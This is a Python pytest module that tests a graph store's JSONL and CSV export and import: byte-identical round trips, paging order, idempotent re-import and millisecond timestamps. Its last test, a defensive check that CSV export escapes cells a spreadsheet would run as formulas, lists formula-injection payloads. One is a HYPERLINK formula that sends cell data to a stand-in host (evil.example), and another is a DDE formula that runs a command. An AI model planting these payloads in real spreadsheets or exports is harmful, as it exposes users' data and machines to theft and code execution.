"""Export, import into an empty store, export again: the same bytes, on both backends."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from relgraph.store.graph_store import GraphStore
from relgraph.transfer import Kind, export_text, import_file

from .conftest import EXPECTED_CSV_HEADERS, EXPECTED_JSONL, INTERACTIONS, RELATIONSHIPS, STAKEHOLDERS, seed, write_file

KINDS = [k.value for k in Kind]  # stakeholders first: the others refer to them
COUNTS = {"stakeholders": len(STAKEHOLDERS), "relationships": len(RELATIONSHIPS), "interactions": len(INTERACTIONS)}


async def test_export_is_exactly_the_expected_jsonl(store: GraphStore) -> None:
    """Field order, times with milliseconds (pre-1970 too), floats, unicode and escapes: the
    same bytes on both backends."""
    await seed(store)
    for kind in KINDS:
        assert await export_text(store, kind, "jsonl") == EXPECTED_JSONL[kind], kind


async def test_csv_export_holds_the_same_rows(store: GraphStore) -> None:
    await seed(store)
    for kind in KINDS:
        text = await export_text(store, kind, "csv")
        assert text.startswith(EXPECTED_CSV_HEADERS[kind])
        records = list(csv.DictReader(io.StringIO(text, newline="")))
        expected = [json.loads(line) for line in EXPECTED_JSONL[kind].splitlines()]
        assert [r["id"] for r in records] == [e["id"] for e in expected]
    stakeholders = list(csv.DictReader(io.StringIO(await export_text(store, "stakeholders", "csv"), newline="")))
    c1 = next(r for r in stakeholders if r["id"] == "c1")
    assert c1["name"] == 'Müller & Söhne, "Großhandel"'
    assert c1["notes"] == "line one\nline two\r\nthree, with comma"
    assert c1["tags"] == "key|a\\|b|back\\\\slash|日本"
    assert c1["is_us"] == "false" and c1["potential"] == "125000.5" and c1["industry"] == "Retail"
    assert next(r for r in stakeholders if r["id"] == "p1")["industry"] == ""


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
async def test_round_trip_is_byte_identical(store: GraphStore, tmp_path: Path, fmt: str) -> None:
    await seed(store)
    first = {kind: await export_text(store, kind, fmt) for kind in KINDS}
    await store.runner.clear()
    for kind in KINDS:
        report = await import_file(store, write_file(tmp_path / f"{kind}.{fmt}", first[kind]), kind)
        assert report.ok, report.bad
        assert (report.rows, report.written) == (COUNTS[kind], COUNTS[kind])
    second = {kind: await export_text(store, kind, fmt) for kind in KINDS}
    assert second == first


async def test_csv_import_keeps_every_value(store: GraphStore, tmp_path: Path) -> None:
    """CSV cannot tell an empty text from an absent one; everything else survives."""
    await seed(store)
    files = {kind: write_file(tmp_path / f"{kind}.csv", await export_text(store, kind, "csv")) for kind in KINDS}
    await store.runner.clear()
    for kind in KINDS:
        assert (await import_file(store, files[kind], kind)).ok
    for kind in KINDS:
        expected = EXPECTED_JSONL[kind].replace(',"subject":""', "")
        assert await export_text(store, kind, "jsonl") == expected, kind


async def test_paging_keeps_id_order_and_every_row(store: GraphStore, tmp_path: Path) -> None:
    """Pages smaller than the data, ids whose code-point order differs from insertion."""
    ids = ["b", "a", "Z", "é", "中", "a b", "a-1", "x10", "x9", "🙂", "ü"]
    await store.upsert_stakeholders([{"id": i, "kind": "CUSTOMER", "form": "PERSON", "name": f"n {i}"} for i in ids])
    rels = [{"id": f"r{n:02d}", "type": t, "from_id": ids[n], "to_id": ids[n + 1],
             "started_at": "2024-01-01T00:00:00.000Z"}
            for n, t in enumerate(["KNOWS", "REFERRED", "KNOWS", "INFLUENCES", "COLLEAGUE_OF", "KNOWS", "REFERRED",
                                   "INFLUENCES", "KNOWS", "PARTNERS_WITH"])]
    await store.upsert_relationships(list(reversed(rels)))
    text = await export_text(store, "stakeholders", "jsonl", page=3)
    assert [json.loads(line)["id"] for line in text.splitlines()] == sorted(ids)
    rel_text = await export_text(store, "relationships", "jsonl", page=4)
    assert [json.loads(line)["id"] for line in rel_text.splitlines()] == [r["id"] for r in rels]
    assert await export_text(store, "relationships", "jsonl") == rel_text


async def test_empty_store_exports_empty_files(store: GraphStore) -> None:
    for kind in KINDS:
        assert await export_text(store, kind, "jsonl") == ""
        assert await export_text(store, kind, "csv") == EXPECTED_CSV_HEADERS[kind]


async def test_reimport_is_idempotent(store: GraphStore, tmp_path: Path) -> None:
    await seed(store)
    files = {kind: write_file(tmp_path / f"{kind}.jsonl", await export_text(store, kind, "jsonl")) for kind in KINDS}
    for kind in KINDS:
        assert (await import_file(store, files[kind], kind)).ok
        assert await export_text(store, kind, "jsonl") == EXPECTED_JSONL[kind]
    rows = await store.runner.read("MATCH (i:Interaction) RETURN count(i) AS n")
    assert rows[0]["n"] == len(INTERACTIONS)


async def test_import_stores_times_to_the_millisecond(store: GraphStore, tmp_path: Path) -> None:
    """Times that `to_ms`'s float arithmetic would shift by a millisecond come back exact."""
    for kind in KINDS:
        report = await import_file(store, write_file(tmp_path / f"{kind}.jsonl", EXPECTED_JSONL[kind]), kind)
        assert report.ok, report.bad
    for kind in KINDS:
        assert await export_text(store, kind, "jsonl") == EXPECTED_JSONL[kind]


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)",
            "\uff1d1+1", "'quoted already", "''twice"]


async def test_csv_export_is_spreadsheet_safe_and_still_round_trips(store: GraphStore, tmp_path: Path) -> None:
    """Text cells that a spreadsheet would run as formulas are escaped with a leading quote
    (and so is a text that starts with one); import undoes it, byte for byte."""
    rows = [{"id": f"f{i}", "kind": "CUSTOMER", "form": "ORGANIZATION", "name": name, "notes": name,
             "tags": [name, "ok"], "industry": "=1+1"} for i, name in enumerate(FORMULAS)]
    await store.upsert_stakeholders(rows)
    first = await export_text(store, "stakeholders", "csv")
    records = list(csv.DictReader(io.StringIO(first, newline="")))
    for record in records:
        for column in ("name", "notes", "tags", "industry"):
            assert record[column][0] == "'", (column, record[column])
    assert {r["name"] for r in records} == {"'" + name for name in FORMULAS}
    await store.runner.clear()
    report = await import_file(store, write_file(tmp_path / "formulas.csv", first), "stakeholders")
    assert report.ok, report.bad
    stored = await store.stakeholders([r["id"] for r in rows])
    assert sorted((s.name, tuple(s.tags)) for s in stored if s) == sorted((n, (n, "ok")) for n in FORMULAS)
    assert await export_text(store, "stakeholders", "csv") == first
